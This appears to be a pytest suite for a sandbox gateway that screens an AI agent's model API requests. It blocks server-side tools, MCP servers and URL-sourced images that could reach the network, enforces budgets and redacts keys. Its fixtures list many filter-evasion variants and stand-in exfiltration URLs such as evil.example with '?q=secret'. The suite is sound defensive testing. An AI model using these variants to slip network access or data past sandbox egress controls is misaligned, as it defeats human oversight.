"""The model provider's servers cannot fetch URLs that the sandbox may not fetch. A rejected key ends the task."""

import json
from typing import Any

import pytest

from sandbox.agents.claude_code.messages_api.dialect import MessagesApi
from sandbox.agents.claude_code.messages_api.request_restrictions import MODEL_STRING_CHARACTERS_MAX
from sandbox.gateway import limits
from sandbox.gateway.event_reporter import EventReporter
from sandbox.gateway.model_api.connection_protocol import ModelProtocol
from sandbox.gateway.model_api.request_gate import ModelPolicy, ModelRequestGate
from sandbox.gateway.model_api.upstream import parse_upstream
from sandbox.interfaces.gateway import Budget, GatewayRules, KeyRejected, ModelUpstream
from sandbox.model.egress import EgressRule, EgressRules
from sandbox.model.events import EgressDenied

DIALECT = MessagesApi()
ISOLATED = GatewayRules()
OUTBOUND = GatewayRules(egress=EgressRules((EgressRule("files.example.org"),)))
FULL = GatewayRules(egress=EgressRules(is_unrestricted=True))
GATEWAY_KEY, SERVER_KEY = "task-key-of-this-task", "sk-the-servers-own"
IMAGE = {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AAAA"}}
URL_IMAGE = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?q=secret"}}


class GatewayHarness:
    """A gateway that sends model requests to a scripted upstream."""

    def __init__(self, rules: GatewayRules, redact=str, key: str = SERVER_KEY) -> None:
        self.events: list = []
        self._key = key
        self._reporter = EventReporter(self.events.append, lambda: 0.0, redact)
        self._gate = ModelRequestGate(rules, self._reporter, DIALECT)

    def connect(self) -> ModelProtocol:
        upstream = parse_upstream(ModelUpstream("https://up.example", api_key=self._key), DIALECT)
        return ModelProtocol(
            DIALECT, ModelPolicy(DIALECT, GATEWAY_KEY, 8123), self._gate, upstream, self._reporter, 8123
        )

    def send(self, body: Any, *headers: str, target: str = "/v1/messages?beta=true") -> tuple[int | None, str, bytes]:
        """Send a request; return the status and message of its rejection, and the forwarded request."""
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        lines = (f"POST {target} HTTP/1.1", "Host: 127.0.0.1:8123", f"X-Api-Key: {GATEWAY_KEY}", *headers)
        head = "\r\n".join((*lines, f"Content-Length: {len(data)}")).encode() + b"\r\n\r\n"
        effects = self.connect().client_data_received(head + data)
        forwarded = bytes(effects.to_upstream)
        if effects.to_client:
            assert not forwarded
            response, _, error_body = bytes(effects.to_client).partition(b"\r\n\r\n")
            return int(response.split(b" ")[1]), json.loads(error_body)["error"]["message"], b""
        return None, "", forwarded


KEY_HEADER, OTHER_KEY_HEADER = f"X-Api-Key: {GATEWAY_KEY}", "X-Api-Key: other"


@pytest.mark.parametrize(
    ("headers", "problem"),
    [
        ([], "has no key"),
        ([OTHER_KEY_HEADER], "has a different key"),
        ([OTHER_KEY_HEADER, OTHER_KEY_HEADER], "has several keys"),
        ([KEY_HEADER, KEY_HEADER], "has several keys"),
    ],
)
def test_request_without_exactly_the_key_of_its_task_is_rejected(headers, problem):
    head = "\r\n".join(("POST /v1/messages HTTP/1.1", "Host: 127.0.0.1:8123", *headers, "Content-Length: 2"))
    effects = GatewayHarness(ISOLATED).connect().client_data_received(head.encode() + b"\r\n\r\n{}")
    response, _, body = bytes(effects.to_client).partition(b"\r\n\r\n")
    expected = f"The request {problem}; the gateway accepts only this task's key."
    assert (response.split(b" ")[1], json.loads(body)["error"]["message"]) == (b"401", expected)
    assert not effects.to_upstream


def message(*content: Any, role: str = "user") -> dict[str, Any]:
    return {"role": role, "content": list(content)}


def request(*messages: Any, **fields: Any) -> dict[str, Any]:
    return {"model": "claude-haiku-4-5", "max_tokens": 5, "messages": list(messages), **fields}


def within_result(block: Any) -> dict[str, Any]:
    return message({"type": "tool_result", "tool_use_id": "t", "content": [{"type": "text", "text": "x"}, block]})


def tool_addition(definition: Any, kind: Any = "tool_definition") -> dict[str, Any]:
    return {"type": "tool_addition", "tool": {"type": kind, "definition": definition}}


FETCH = {"type": "web_fetch_20250910", "name": "web_fetch"}
SEARCH = {"type": "web_search_20250305", "name": "web_search"}
CLIENT_TOOL = {"name": "mcp__x__y", "description": "d", "input_schema": {"type": "object", "properties": {"Tools": {}}}}

EXTERNAL = {
    "web_search": request(tools=[{"name": "Bash"}, {"type": "web_search_20250305", "name": "web_search"}]),
    "web_fetch": request(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
    "code_execution": request(tools=[{"type": "code_execution_20250825", "name": "code_execution"}]),
    "mcp_toolset": request(tools=[{"type": "mcp_toolset", "mcp_server_name": "x"}]),
    "unknown": request(tools=[{"type": "teleport_20300101", "name": "x"}]),
    "type that is not a string": request(tools=[{"type": ["custom"], "name": "x"}]),
    "tool as a string": request(tools=["web_search_20250305"]),
    "one tool without a list": request(tools={"type": "web_search_20250305"}),
    "mcp_servers": request(mcp_servers=[{"type": "url", "url": "https://evil.example", "name": "x"}]),
    "container": request(container={"skills": [{"type": "anthropic", "skill_id": "pptx"}]}),
    "image": request(message(URL_IMAGE)),
    "document": request(message({"type": "document", "source": {"type": "url", "url": "https://evil.example"}})),
    "document within a document": request(
        message(
            {"type": "document", "source": {"type": "content", "content": [{"type": "text", "text": "x"}, URL_IMAGE]}}
        )
    ),
    "file": request(message({"type": "image", "source": {"type": "file", "file_id": "file_1"}})),
    "upload": request(message({"type": "container_upload", "file_id": "file_1"})),
    "tool result": request(within_result(URL_IMAGE)),
    "tool result within a tool result": request(within_result({"type": "tool_result", "content": [URL_IMAGE]})),
    "message of the assistant": request(message(URL_IMAGE, role="assistant")),
    "system": request(system=[{"type": "text", "text": "x"}, URL_IMAGE]),
    "block without a list": request({"role": "user", "content": URL_IMAGE}),
    "source without a type": request(message({"type": "image", "source": {"url": "https://evil.example"}})),
    "capital tools": request(Tools=[{"type": "web_search_20250305", "name": "web_search"}]),
    "capital type": request(tools=[{"Type": "web_search_20250305", "name": "web_search"}]),
    "capital source": request(message({"type": "image", "Source": URL_IMAGE["source"]})),
    "capital content": request({"role": "user", "Content": [URL_IMAGE]}),
    "capital content next to content": request({"role": "user", "content": "x", "CONTENT": [URL_IMAGE]}),
    "one message without a list": {"model": "claude-haiku-4-5", "messages": {"role": "user", "Content": [URL_IMAGE]}},
    "tool in a message": request(message(tool_addition(FETCH), role="system")),
    "tool in a user message": request(message({"type": "text", "text": "x"}, tool_addition(FETCH))),
    "tools in a message": request(message({"type": "tool_addition", "tools": [FETCH]}, role="system")),
    "mcp_toolset in a message": request(message(tool_addition({"type": "mcp_toolset", "mcp_server_name": "x"}))),
    "unknown tool in a message": request(message(tool_addition({"type": "teleport", "name": "x"}))),
    "tool in a nested message": request(
        message({"type": "mid_conv_system", "content": [{"type": "text", "text": "x"}, tool_addition(FETCH)]})
    ),
    "tool in a compaction": request(
        message({"type": "compaction", "content": None, "tool_changes": [tool_addition(FETCH)]}, role="assistant")
    ),
    "tool in a result": request(within_result(tool_addition(FETCH))),
    "tool in the system prompt": request(system=[tool_addition(FETCH)]),
    "tool without a definition": request(message({"type": "tool_addition", "tool": FETCH})),
    "tool below another field": request(message({"type": "tool_addition", "new": {"what": FETCH}})),
    "tool change of unknown type": request(message(tool_addition(FETCH, "mcp_toolset_reference"))),
    "tool change without a type": request(message(tool_addition(CLIENT_TOOL, None))),
    "tool change of unknown shape": request(message({"type": "tool_addition", "tool": "web_fetch"})),
    "definition of unknown shape": request(message(tool_addition("web_fetch_20250910"))),
    "capital definition": request(
        message({"type": "tool_addition", "tool": {"type": "tool_definition", "Definition": FETCH}})
    ),
    "tool of a fallback": request(fallbacks=[{"model": "claude-haiku-4-5", "tools": [FETCH]}]),
    "mcp_servers of a fallback": request(fallbacks=[{"model": "claude-haiku-4-5", "mcp_servers": [{"name": "x"}]}]),
    "tools within a tool": request(tools=[{**CLIENT_TOOL, "tools": [SEARCH]}]),
    "one tool within a tool": request(tools=[{**CLIENT_TOOL, "tools": SEARCH}]),
    "tool within another field of a tool": request(tools=[{**CLIENT_TOOL, "delegate": {"to": [SEARCH]}}]),
    "tool of unknown type within a tool": request(tools=[{**CLIENT_TOOL, "delegate": {"type": "teleport"}}]),
    "tool without a date within a tool": request(tools=[{**CLIENT_TOOL, "delegate": {"type": "web_search"}}]),
    "definition within a tool": request(tools=[{**CLIENT_TOOL, "definition": SEARCH}]),
    "tool within a definition": request(message(tool_addition({**CLIENT_TOOL, "tools": [SEARCH]}), role="system")),
    "tool within an advisor": request(tools=[{"type": "advisor_20260301", "name": "advisor", "tools": [SEARCH]}]),
    "tool within a tool without a type": request(tools=[{"name": "x", "custom": {"tools": [SEARCH]}}]),
    "mcp_servers within a tool": request(tools=[{**CLIENT_TOOL, "mcp_servers": [{"name": "x"}]}]),
    "container within a tool": request(tools=[{**CLIENT_TOOL, "container": "c"}]),
    "URL within a tool": request(tools=[{**CLIENT_TOOL, "server": {"url": "https://evil.example"}}]),
    "source within a tool": request(tools=[{**CLIENT_TOOL, "source": URL_IMAGE["source"]}]),
    "configuration of a tool of another type": request(tools=[{**CLIENT_TOOL, "configs": {"x": {"tools": [SEARCH]}}}]),
    "tool within the tool choice": request(tool_choice={"type": "tool", "name": "x", "tools": [SEARCH]}),
    "tool choice with a server tool type": request(tool_choice=SEARCH),
    "tool in a field that is data elsewhere": request(
        {"role": "user", "content": "x", "metadata": {"tools": [SEARCH]}}
    ),
    "tool in an input field of the request": request(input={"tools": [SEARCH]}),
    "URL in an input field of an image": request(
        message({"type": "image", "source": IMAGE["source"], "input": URL_IMAGE})
    ),
    "schema of the request": request(input_schema={"tools": [SEARCH]}),
    "type with a suffix after its date": request(message({"type": "x", "of": {"type": "web_search_20250305-x"}})),
    "call of web_search": request(
        message({"type": "server_tool_use", "id": "t", "name": "web_search", "input": {"query": "x"}}, role="assistant")
    ),
    "call of code execution": request(message({"type": "server_tool_use", "id": "t", "name": "bash_code_execution"})),
    "call without a name": request(message({"type": "server_tool_use", "id": "t", "input": {}})),
    "call of an MCP server": request(message({"type": "mcp_tool_use", "id": "t", "name": "x", "server_name": "y"})),
    "image with a URL as its source": request(message({"type": "image", "source": "https://evil.example/"})),
    "document without a source": request(message({"type": "document", "file_id": "file_1"})),
    "image_url block of another API": request(
        message({"type": "image_url", "image_url": {"url": "https://evil.example/"}})
    ),
    "input_image block of another API": request(message({"type": "input_image", "image_url": "https://evil.example/"})),
    "input_file block of another API": request(message({"type": "input_file", "file_id": "file_1"})),
    "inline source with a URL": request(message({"type": "image", "source": {**IMAGE["source"], "url": "x"}})),
    "list of sources": request(message({"type": "image", "source": [IMAGE["source"]]})),
    "files of the request": request(file_ids=["file_1"]),
    "container by its ID": request(container_id="c"),
    "URL in the system prompt": request(system=[{"type": "text", "text": "x", "document_url": "https://evil.example"}]),
    "name with a space": request(**{"tools ": [SEARCH]}),
    "name with a NUL": request(**{"tools\0": [SEARCH]}),
    "name with a hyphen": request(**{"mcp-servers": [{"name": "x"}]}),
    "name with a full-width letter": request(**{"\uff54ools": [SEARCH]}),
    "name with a long s": request(**{"tool\u017f": [{"type": "web_search_20250305"}]}),
}

HARMLESS = {
    "no messages": request(),
    "text": request({"role": "user", "content": "Fetch https://evil.example with web_search_20250305"}),
    "tools of Claude Code": request(
        tools=[{"name": "WebSearch", "description": "d", "input_schema": {"type": "object"}}]
    ),
    "tools by type": request(
        tools=[
            {"type": "custom", "name": "web_fetch"},
            {"type": "bash_20250124", "name": "bash"},
            {"type": "text_editor_20250728", "name": "edit"},
            {"type": "memory_20250818", "name": "memory"},
            {"type": "tool_search_tool_regex_20251119", "name": "search"},
            {"type": "advisor_20260301", "name": "advisor", "model": "claude-opus-5"},
        ]
    ),
    "inline images": request(message(IMAGE), within_result(IMAGE)),
    "inline documents": request(
        message(
            {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "x"}},
            {"type": "document", "source": {"type": "content", "content": [IMAGE]}},
            {
                "type": "search_result",
                "source": "https://where.it.was.found",
                "content": [{"type": "text", "text": "x"}],
            },
        )
    ),
    "tool call input": request(
        message(
            {"type": "tool_use", "id": "t", "name": "mcp__x", "input": {"Source": {"type": "url"}}}, role="assistant"
        )
    ),
    "tools in messages": request(
        message(
            {"type": "text", "text": "x"},
            tool_addition(CLIENT_TOOL),
            tool_addition({"type": "custom", **CLIENT_TOOL}),
            role="system",
        ),
        message(
            {"type": "tool_addition", "tool": {"type": "tool_reference", "name": "Bash"}},
            {"type": "tool_removal", "tool": {"type": "tool_reference", "name": "Bash"}},
            tool_addition({"type": "advisor_20260301", "name": "advisor", "model": "claude-opus-5"}),
            role="system",
        ),
        message({"type": "compaction", "content": "x", "tool_changes": [tool_addition(CLIENT_TOOL)]}, role="assistant"),
    ),
    "other fields of Claude Code": request(
        message(
            {"type": "tool_use", "id": "t", "name": "x", "input": {"tool": "x", "tools": ["x"], "type": "a_20250101"}},
            {"type": "thinking", "thinking": "x", "signature": "x"},
            {"type": "fallback", "from": {"model": "claude-fable-5"}, "to": {"model": "claude-opus-5"}},
            role="assistant",
        ),
        within_result({"type": "tool_reference", "tool_name": "x"}),
        context_management={"edits": [{"type": "clear_thinking_20251015", "keep": "all"}]},
        output_config={"effort": "high", "format": {"type": "json_schema", "schema": {"properties": {"Tool": {}}}}},
        metadata={"user_id": "x"},
        thinking={"type": "adaptive"},
        fallbacks=[{"model": "claude-opus-4-8"}],
    ),
    "all fields of a tool": request(
        tools=[
            {
                **CLIENT_TOOL,
                "type": "custom",
                "strict": True,
                "defer_loading": True,
                "eager_input_streaming": True,
                "allowed_callers": ["direct"],
                "cache_control": {"type": "ephemeral", "ttl": "1h"},
                "input_schema": {
                    "type": "object",
                    "properties": {"url": {"type": "string"}, "Tools": {"type": "web_search_20250305"}},
                    "$defs": {"tools": {"type": "array"}},
                },
                "input_examples": [{"url": "https://where.ever", "Tools": [SEARCH]}],
                "annotations": {"title": "x"},
            }
        ],
        tool_choice={"type": "tool", "name": "x", "disable_parallel_tool_use": True},
    ),
    "calls within the request": request(
        message(
            {"type": "server_tool_use", "id": "t", "name": "tool_search_tool_regex", "input": {"pattern": "x"}},
            {
                "type": "tool_search_tool_result",
                "tool_use_id": "t",
                "content": {
                    "type": "tool_search_tool_search_result",
                    "tool_references": [{"type": "tool_reference", "tool_name": "x"}],
                },
            },
            {"type": "server_tool_use", "id": "u", "name": "advisor", "input": {}},
            {"type": "tool_use", "id": "v", "name": "x", "input": {"url": "x", "file_id": "y", "container": {"A": 1}}},
            role="assistant",
        )
    ),
    "unknown harmless fields": request(
        message({"type": "text", "text": "x", "citations": {"enabled": True}, "novelty": {"type": "nice", "size": 3}}),
        novelty={"enabled": True, "of": [{"type": "mild"}]},
        cache_control={"type": "ephemeral"},
        thread={"type": "create"},
    ),
    "empty URLs": request(message({"type": "text", "text": "x", "citations": [{"file_id": None, "url": ""}]})),
    "nulls": request(mcp_servers=[], container=None, tools=[], system=None),
}


@pytest.mark.parametrize("kind", [[], ["image"], {}, {"type": "x"}, 7, True, None])
def test_arbitrary_type_does_not_raise(kind):
    block = {"type": kind, "source": "x", "name": ["x"]}
    assert GatewayHarness(ISOLATED).send(request(message(block), within_result(block)))[0] in (None, 403)
    assert GatewayHarness(ISOLATED).send(request(tools=[{"name": "x", "part": block}]))[0] in (None, 403)


@pytest.mark.parametrize("rules", [ISOLATED, OUTBOUND])
@pytest.mark.parametrize("name", EXTERNAL)
@pytest.mark.parametrize("target", ["/v1/messages?beta=true", "/v1/messages/count_tokens"])
def test_external_access_is_rejected_and_reported(rules, name, target):
    gateway = GatewayHarness(rules)
    status, reason, _ = gateway.send(EXTERNAL[name], target=target)
    assert status == 403
    assert "access the network" in reason
    assert "network_mode full" in reason
    assert gateway.events == [EgressDenied("model", 8123, reason)]


@pytest.mark.parametrize("name", EXTERNAL)
def test_external_access_is_forwarded_with_unrestricted_egress(name):
    gateway = GatewayHarness(FULL)
    status, _, forwarded = gateway.send(EXTERNAL[name])
    assert status is None
    assert forwarded.endswith(json.dumps(EXTERNAL[name]).encode())
    assert gateway.events == []


@pytest.mark.parametrize("rules", [ISOLATED, OUTBOUND, FULL])
@pytest.mark.parametrize("name", HARMLESS)
def test_content_of_claude_code_requests_is_unchanged(rules, name):
    gateway = GatewayHarness(rules)
    status, reason, forwarded = gateway.send(HARMLESS[name])
    assert status is None, reason
    assert json.loads(forwarded.partition(b"\r\n\r\n")[2]) == HARMLESS[name]
    assert gateway.events == []


@pytest.mark.parametrize(
    "body",
    [
        b'{"model":"m","tools":[{"type":"web_search_20250305"}],"tools":[]}',
        b'{"model":"m","tools":[],"\\u0074ools":[{"name":"x"}],"mcp_servers":[{"url":"x"}],"mcp_servers":null}',
    ],
)
def test_duplicate_json_keys_are_forwarded_once(body):
    status, _, forwarded = GatewayHarness(ISOLATED).send(body)
    assert status is None
    assert b"web_search" not in forwarded
    assert b"url" not in forwarded


def test_last_duplicate_json_key_is_inspected():
    assert GatewayHarness(ISOLATED).send(b'{"model":"m","tools":[],"tools":[{"type":"web_search_20250305"}]}')[0] == 403


def test_gateway_sets_the_content_type_of_the_reserialized_body():
    headers = ("Content-Type: application/json; charset=utf-7", "Content-Encoding: gzip")
    _, _, forwarded = GatewayHarness(ISOLATED).send(
        b' {"model" : "m" , "n": 1.0, "big": 18446744073709551615} ', *headers
    )
    head, _, body = forwarded.partition(b"\r\n\r\n")
    assert body == b'{"model":"m","n":1.0,"big":18446744073709551615}'
    assert b"content-type: application/json\r\n" in head.lower() + b"\r\n"
    assert b"gzip" not in head
    assert b"utf-7" not in head


@pytest.mark.parametrize(
    "body",
    [b"", b"[]", b"1", b"nonsense", b'{"model":1}', b"\xff", b'{"a":"\xff"}', b'{"a":1}x', b"[" * 100_000, b"\x1f\x8b"],
)
def test_invalid_body_is_rejected(body):
    assert GatewayHarness(ISOLATED).send(body)[0] == 400


def test_body_with_too_many_json_values_is_rejected(monkeypatch):
    monkeypatch.setattr(limits, "REQUEST_JSON_VALUES_MAX", 1000)
    assert GatewayHarness(ISOLATED).send(b'{"model":"m","a":[%s]}' % b",".join([b"{}"] * 498))[0] is None
    assert GatewayHarness(ISOLATED).send(b'{"model":"m","a":[%s]}' % b",".join([b"{}"] * 500))[0] == 413


def test_secret_in_the_name_of_an_unpriced_model_is_redacted():
    secret = "s3cr3t" * 40
    rules = GatewayRules(budget=Budget(usd=1.0))
    gateway = GatewayHarness(rules, lambda text: text.replace(secret, "[REDACTED]"))
    status, reason, _ = gateway.send({"model": f"a{secret}", "messages": []})
    assert status == 402
    assert "The model a[REDACTED] has no price" in reason


OVERLONG = "x" * (MODEL_STRING_CHARACTERS_MAX + 1)
OVERLONG_STRINGS = {
    "model": {"model": OVERLONG},
    "tool": request(tools=[{"type": OVERLONG, "name": "x"}]),
    "source": request(message({"type": "image", "source": {"type": OVERLONG, "url": "x"}})),
    "block": request(message({"type": OVERLONG})),
    "field": request(message({"type": "text", OVERLONG: "x"})),
}


@pytest.mark.parametrize("target", ["/v1/messages", "/v1/messages/count_tokens"])
@pytest.mark.parametrize("name", OVERLONG_STRINGS)
def test_overlong_string_is_rejected_before_redaction(name, target):
    inspected: list[str] = []

    def redact(text: str) -> str:
        inspected.append(text)
        return text

    gateway = GatewayHarness(GatewayRules(budget=Budget(usd=1.0)), redact)
    status, reason, _ = gateway.send(OVERLONG_STRINGS[name], target=target)
    assert status in (400, 403)
    assert OVERLONG[:10] not in reason
    assert max(map(len, inspected), default=0) < MODEL_STRING_CHARACTERS_MAX


def test_long_names_in_data_are_forwarded_and_so_are_strings_of_the_maximum_length():
    text = {"type": "text", "text": OVERLONG, OVERLONG[1:]: "x"}
    call = {"type": "tool_use", "id": "t", "name": "x", "input": {OVERLONG: {"type": OVERLONG}}}
    tools = [{"name": "x", "input_schema": {"type": "object", "properties": {OVERLONG: {"type": OVERLONG}}}}]
    body = request(message(text, {"type": OVERLONG[1:]}, call), tools=tools)
    assert GatewayHarness(ISOLATED).send(body)[0] is None


def test_string_of_the_maximum_length_is_reported():
    _, reason, _ = GatewayHarness(ISOLATED).send(request(tools=[{"type": OVERLONG[1:], "name": "x"}]))
    assert OVERLONG[2:256] in reason


UNKNOWN_ADVISOR = {"type": "advisor_20260301", "name": "advisor", "model": "nobody-knows-it"}


@pytest.mark.parametrize(
    "fields",
    [
        {"fallbacks": [{"model": "claude-opus-4-8"}, {"model": "nobody-knows-it"}]},
        {"fallbacks": [{"model": "nobody-knows-it", "speed": "standard"}]},
        {"tools": [{"name": "Bash"}, UNKNOWN_ADVISOR]},
        {"messages": [message(tool_addition(UNKNOWN_ADVISOR), role="system")]},
    ],
)
def test_unpriced_additional_model_is_rejected_with_a_usd_budget(fields):
    usd_gateway, token_gateway = (
        GatewayHarness(GatewayRules(budget=budget)) for budget in (Budget(usd=1.0), Budget(tokens=1000))
    )
    status, reason, _ = usd_gateway.send(request() | fields)
    assert (status, reason.partition(" in Sandbox")[0]) == (402, "The model nobody-knows-it has no price")
    assert token_gateway.send(request() | fields)[0] is None


@pytest.mark.parametrize(
    "fallbacks",
    [
        [{"model": "claude-opus-4-8", "speed": "fast"}],
        [{"model": "claude-opus-4-8", "inference_geo": "us"}],
        [{}],
        [{"model": ["claude-opus-4-8"]}],
        [{"model": "endless" * 1000}],
        ["claude-opus-4-8"],
        [[{"model": "claude-opus-4-8"}]],
        {"model": "claude-opus-4-8"},
        "claude-opus-4-8",
        7,
    ],
)
def test_fallbacks_of_unknown_cost_are_rejected_with_a_usd_budget(fallbacks):
    usd_gateway, token_gateway = (
        GatewayHarness(GatewayRules(budget=budget)) for budget in (Budget(usd=1.0), Budget(tokens=1000))
    )
    status, reason, _ = usd_gateway.send(request(fallbacks=fallbacks))
    assert status == 402
    assert "lifecycle.budget_usd cannot bound the cost" in reason
    assert "endless" not in reason
    assert token_gateway.send(request(fallbacks=fallbacks))[0] is None


@pytest.mark.parametrize(
    "fallbacks", [None, [], "default", [{"model": "claude-opus-4-8", "max_tokens": 9, "speed": "standard"}]]
)
def test_fallbacks_of_claude_code_are_forwarded_with_a_usd_budget(fallbacks):
    assert GatewayHarness(GatewayRules(budget=Budget(usd=1.0))).send(request(fallbacks=fallbacks))[0] is None


@pytest.mark.parametrize("fields", [{"speed": "fast"}, {"inference_geo": "us"}, {"speed": ["fast"]}])
def test_surcharged_request_is_rejected_with_a_usd_budget(fields):
    body = {"model": "claude-opus-5-5", "messages": []}
    usd_gateway, token_gateway = (
        GatewayHarness(GatewayRules(budget=budget)) for budget in (Budget(usd=1.0), Budget(tokens=1000))
    )
    status, reason, _ = usd_gateway.send(body | fields)
    assert (status, reason.partition(" costs")[0]) == (402, f"A request with '{next(iter(fields))}'")
    assert token_gateway.send(body | fields)[0] is None
    assert usd_gateway.send(body | {"speed": "standard", "inference_geo": "global"})[0] is None
    assert usd_gateway.send(body)[0] is None


@pytest.mark.parametrize("tool", ["code_execution_20250825", "teleport_20300101", ["custom"], "x" * 1000])
@pytest.mark.parametrize("name", ["tools", "Tools"])
def test_server_tool_with_unknown_fee_is_rejected_if_there_is_a_usd_budget(name, tool):
    usd_gateway, token_gateway = (
        GatewayHarness(GatewayRules(egress=EgressRules(is_unrestricted=True), budget=budget))
        for budget in (Budget(usd=1.0), Budget(tokens=1000))
    )
    body = request(**{name: [{"name": "Bash"}, {"type": tool, "name": "x"}]})
    status, reason, _ = usd_gateway.send(body)
    assert status == 402
    assert "lifecycle.budget_usd cannot bound the cost" in reason
    assert usd_gateway.send(body, target="/v1/messages/count_tokens")[0] is None
    assert token_gateway.send(body)[0] is None
    assert usd_gateway.send(request(message(tool_addition({"type": tool, "name": "x"}), role="system")))[0] == 402


@pytest.mark.parametrize("name", HARMLESS)
def test_tools_with_known_fees_are_forwarded_with_a_usd_budget(name):
    gateway = GatewayHarness(GatewayRules(egress=EgressRules(is_unrestricted=True), budget=Budget(usd=1.0)))
    places = {"user_location": {"type": "approximate", "city": "x"}, "allowed_domains": ["docs.example.org"]}
    servers = {"type": "mcp_toolset", "mcp_server_name": "x", "configs": {"Tool-1": {"enabled": True}}}
    server_tools: list[dict[str, Any]] = [
        {"type": "web_search_20250305", "name": "web_search", **places},
        servers,
    ]
    server_tools += [
        {"type": kind} for kind in ("web_search_20250305", "web_search_20260209", "web_fetch_20250910", "mcp_toolset")
    ]
    assert gateway.send(HARMLESS[name])[0] is None
    assert gateway.send(HARMLESS[name] | {"tools": server_tools})[0] is None


# The server's key


def client_responses(gateway: GatewayHarness, *statuses: int, body: bytes = b"{}") -> list[tuple[int, str]]:
    """Return what the client receives if the upstream responds to successive requests with these statuses."""
    responses = []
    for status in statuses:
        protocol = gateway.connect()
        head = f"POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:8123\r\nX-Api-Key: {GATEWAY_KEY}\r\n"
        head += "Content-Length: 2\r\n\r\n"
        effects = protocol.client_data_received(head.encode() + b"{}")
        if not effects.to_client:
            assert effects.dial
            head = f"HTTP/1.1 {status} X\r\nContent-Length: {len(body)}\r\n\r\n"
            effects = protocol.upstream_data_received(head.encode() + body)
        response, _, content = bytes(effects.to_client).partition(b"\r\n\r\n")
        responses.append((int(response.split(b" ")[1]), content.decode()))
    return responses


@pytest.mark.parametrize("status", [401, 403])
def test_rejected_server_key_is_reported_once_and_ends_requests(status):
    gateway = GatewayHarness(ISOLATED)
    responses = client_responses(gateway, status, 200)
    assert [expected for expected, _ in responses] == [403, 403], (
        "403, because Claude Code retries for minutes after a 401"
    )
    assert all("rejected the server's key" in body for _, body in responses)
    expected = f"The model at up.example rejected the server's key ({status}); check the key."
    assert [event for event in gateway.events if isinstance(event, KeyRejected)] == [KeyRejected(expected)]


def key_rejections(gateway: GatewayHarness) -> list[str]:
    return [event.message for event in gateway.events if isinstance(event, KeyRejected)]


def error_body(message: object) -> bytes:
    return json.dumps({"type": "error", "error": {"type": "authentication_error", "message": message}}).encode()


@pytest.mark.parametrize(
    ("message", "quoted"),
    [
        ("invalid x-api-key", ": invalid x-api-key"),
        ("This organization\nhas been disabled.", ": This organization has been disabled"),
        ("\x1b[31mred\u202e", r": \x1b[31mred\u202e"),
        ("The value hunter2 is wrong", ": The value [REDACTED] is wrong"),
        ("x" * 5000, ": " + "x" * 300 + "…"),
        ("x" * 20_000, ""),
        (None, ""),
        (["x"], ""),
    ],
)
def test_upstream_message_about_a_rejected_key_is_quoted_only_in_the_report(message, quoted):
    gateway = GatewayHarness(ISOLATED, lambda text: text.replace("hunter2", "[REDACTED]"))
    [(status, content)] = client_responses(gateway, 401, body=error_body(message))
    assert key_rejections(gateway) == [
        f"The model at up.example rejected the server's key (401){quoted}; check the key."
    ]
    assert (status, json.loads(content)["error"]["message"]) == (
        403,
        "The model at up.example rejected the server's key (401); check the key.",
    )


def test_server_key_in_the_message_is_redacted():
    gateway = GatewayHarness(ISOLATED)
    key = gateway.connect()._upstream.credential[1]
    client_responses(gateway, 401, body=error_body(f"Incorrect API key: {key.decode()}"))
    assert "Incorrect API key: " in key_rejections(gateway)[0]
    assert key.decode() not in key_rejections(gateway)[0]


@pytest.mark.parametrize(
    ("shown", "quoted"),
    [
        (rb"gw-live-9f8e7d6c5b4a\u003d\u003d", "*" * 32),
        (rb"gw\u002dlive-9f8e7d6c5b4a==", "*" * 27),
        (rb"a\u003db", "a=b"),
        (rb"of account 7 \ud83d\ude00", "of account 7 \U0001f600"),
    ],
)
def test_server_key_with_json_escapes_in_the_message_is_redacted(shown, quoted):
    gateway = GatewayHarness(ISOLATED, key="gw-live-9f8e7d6c5b4a==")
    body = b'{"error": {"message": "The key ' + shown + b' may not use this model"}}'
    client_responses(gateway, 403, body=body)
    assert key_rejections(gateway) == [
        f"The model at up.example rejected the server's key (403): The key {quoted} may not use this model; "
        "check the key."
    ]


@pytest.mark.parametrize("end", ["eof", "timeout", "failure"])
def test_rejected_key_is_reported_even_if_the_body_does_not_end(end):
    gateway = GatewayHarness(ISOLATED)
    protocol = gateway.connect()
    head = (
        f"POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:8123\r\nX-Api-Key: {GATEWAY_KEY}\r\nContent-Length: 2\r\n\r\n"
    )
    protocol.client_data_received(head.encode() + b"{}")
    started = protocol.upstream_data_received(b"HTTP/1.1 401 X\r\nContent-Length: 99\r\n\r\n{")
    assert (started.to_client, key_rejections(gateway)) == (b"", [])
    if end == "eof":
        effects = protocol.upstream_data_received(b"")
    else:
        effects = protocol.upstream_timed_out() if end == "timeout" else protocol.upstream_failed(502, "lost")
    assert effects.to_client.startswith(b"HTTP/1.1 403 ")
    assert key_rejections(gateway) == ["The model at up.example rejected the server's key (401); check the key."]


def test_accepted_key_is_not_reported_for_a_later_403():
    gateway = GatewayHarness(ISOLATED)
    assert client_responses(gateway, 200, 403, 200) == [(200, "{}"), (403, "{}"), (200, "{}")]
    assert not [event for event in gateway.events if isinstance(event, KeyRejected)]
    assert client_responses(gateway, 401)[0][0] == 403
    assert [type(event) for event in gateway.events].count(KeyRejected) == 1


@pytest.mark.parametrize("status", [400, 404, 429, 500, 529])
def test_error_responses_other_than_401_are_forwarded(status):
    gateway = GatewayHarness(ISOLATED)
    assert client_responses(gateway, status, 200) == [(status, "{}"), (200, "{}")]
    assert not [event for event in gateway.events if isinstance(event, KeyRejected)]
